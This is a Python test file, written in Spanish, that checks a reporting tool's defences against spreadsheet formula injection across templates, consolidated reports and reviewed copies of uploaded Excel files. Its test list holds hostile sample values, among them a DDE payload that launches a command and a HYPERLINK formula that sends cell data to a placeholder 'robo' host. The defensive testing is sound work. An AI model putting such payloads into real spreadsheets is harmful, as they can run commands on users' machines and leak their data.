"""T24: ningún libro que escribe el programa convierte datos en fórmulas. El texto con forma de fórmula llega por
cada camino que alcanza a cada libro: nombres de instituciones en una actualización firmada con la llave real de la
central (plantilla y su hoja de catálogos), títulos y textos de registros de un paquete firmado por una oficina real
(libro consolidado), y celdas de un Excel cargado (copia revisada, la vista previa de la carga)."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from empaquetado import llaves
from formularios import celdas
from tests.empaquetado.util import cli, privada_de, red_de_oficinas
from tests.reportes.test_carga_excel import FILA

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://ejemplo.invalid/robo?d="&A1,"Ver detalle")', "+1", "@SUM(1)",
            "-2+3", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"]


def formulas_en(archivo: Path) -> list[tuple[str, str, object]]:
    """Toda celda que Excel calcularía (tipo «f»), en todas las hojas del libro."""
    libro = load_workbook(archivo)
    return [(h.title, c.coordinate, c.value) for h in libro.worksheets for fila in h.iter_rows() for c in fila
            if c.data_type == "f"]


def textos_en(archivo: Path) -> dict[str, object]:
    """{texto: celda} de todas las celdas de texto del libro."""
    libro = load_workbook(archivo)
    return {c.value: c for h in libro.worksheets for fila in h.iter_rows() for c in fila if isinstance(c.value, str)}


@pytest.mark.parametrize("texto", FORMULAS)
def test_t24_el_ayudante_de_celdas_nunca_escribe_una_formula(tmp_path, texto):
    assert celdas.parece_formula(texto)
    normal, solo = Workbook(), Workbook(write_only=True)
    celdas.escribir(normal.active, 1, 1, texto)
    hoja = solo.create_sheet("Hoja")
    hoja.append([celdas.valor_de_fila(hoja, texto), celdas.celda(hoja, texto)])
    for libro, nombre in ((normal, "normal.xlsx"), (solo, "solo.xlsx")):
        libro.save(tmp_path / nombre)
        assert formulas_en(tmp_path / nombre) == []
        for celda in textos_en(tmp_path / nombre).values():
            # «\r» es un control: se guarda como «�=1+1», que ya no empieza como fórmula; los demás llevan la comilla.
            assert celda.data_type == "s" and (celda.quotePrefix or not celdas.parece_formula(celda.value))


def test_t24_nombres_de_instituciones_de_una_actualizacion_firmada_no_son_formulas_en_la_plantilla(tmp_path):
    red = red_de_oficinas(tmp_path)
    assert cli(red["mun"], "fijar-central", llaves.huella(llaves.publica_cruda(privada_de(red["cen"]))))[0] == 0
    carpeta = tmp_path / "cambios"
    carpeta.mkdir()
    filas = [f'ATAQUE{i},"{t.replace(chr(34), chr(34) * 2)}",' for i, t in enumerate(FORMULAS[:5])]
    (carpeta / "instituciones.csv").write_text("sigla,nombre,nota\n" + "\n".join(filas) + "\n", encoding="utf-8")
    # Publicada por la central con su llave real: son nombres de texto limpio; el peligro está en cómo se escriben.
    codigo, res = cli(red["cen"], "actualizacion", "--catalogos", str(carpeta), "--salida", str(tmp_path / "act.json"))
    assert codigo == 0, res
    codigo, res = cli(red["mun"], "importar", str(tmp_path / "act.json"))
    assert codigo == 0 and res["paquetes"][0]["resultado"] == "actualizacion_aplicada", res
    for oficina in ("mun", "cen"):
        plantilla = tmp_path / f"plantilla-{oficina}.xlsx"
        assert cli(red[oficina], "plantilla", "--salida", str(plantilla))[0] == 0
        assert formulas_en(plantilla) == []
        textos = textos_en(plantilla)
        for t in FORMULAS[:5]:
            assert textos[t].data_type == "s" and textos[t].quotePrefix, t
        assert load_workbook(plantilla)["Instituciones"].max_row >= 6


def _libro_con_formulas(destino: Path) -> Path:
    """El Excel de la oficina: una fila con texto con forma de fórmula (celdas de texto) y otra con fórmulas reales."""
    libro = load_workbook(destino.with_name("plantilla.xlsx"))
    hoja = libro["Acciones"]
    llaves = [c.value for c in hoja[2]]
    textos = {**FILA, "titulo": FORMULAS[1], "descripcion": FORMULAS[0], "resultados": "@SUM(1)", "localidad": "+1",
              "reto_texto": "-2+3"}
    for n, datos in ((3, textos), (4, {**FILA, "titulo": "=CONCAT(\"Reunión \", \"de trabajo\")", "mujeres": "=1+9"})):
        for k, v in datos.items():
            celda = hoja.cell(row=n, column=llaves.index(k) + 1, value=v)
            if n == 3 and isinstance(v, str):
                celda.data_type = "s"  # escrito como texto en Excel (con comilla): no es fórmula en la entrada
    libro.save(destino)
    return destino


def test_t24_registros_firmados_por_una_oficina_real_y_la_copia_revisada_no_traen_formulas(tmp_path):
    red = red_de_oficinas(tmp_path)
    assert cli(red["mun"], "plantilla", "--salida", str(tmp_path / "plantilla.xlsx"))[0] == 0
    entrada = _libro_con_formulas(tmp_path / "acciones.xlsx")
    assert formulas_en(entrada)  # la entrada sí las trae
    _, res = cli(red["mun"], "cargar-excel", str(entrada), "--parcial")
    assert res["cargado"] and res["validas"] == 1 and res["con_errores"] == 1, res  # la fila con fórmulas no se carga
    # La copia revisada: las fórmulas de la entrada vuelven como su texto, con el aviso de la fila.
    copia = Path(res["copia_revisada"])
    assert formulas_en(copia) == []
    assert textos_en(copia)[FORMULAS[1]].quotePrefix
    # El paquete lo firma la municipal con su llave real; la estatal lo importa y escribe su consolidado.
    codigo, paquete = cli(red["mun"], "exportar", "--salida", str(tmp_path / "paquetes"))
    assert codigo == 0, paquete
    assert cli(red["est"], "importar", paquete["archivo"])[0] == 0
    consolidado = tmp_path / "consolidado.xlsx"
    assert cli(red["est"], "reporte", "--tipo", "consolidado", "--salida", str(consolidado))[0] == 0
    assert formulas_en(consolidado) == []
    textos = textos_en(consolidado)
    for t in (FORMULAS[0], FORMULAS[1], "@SUM(1)", "+1"):
        assert textos[t].data_type == "s" and textos[t].quotePrefix, t
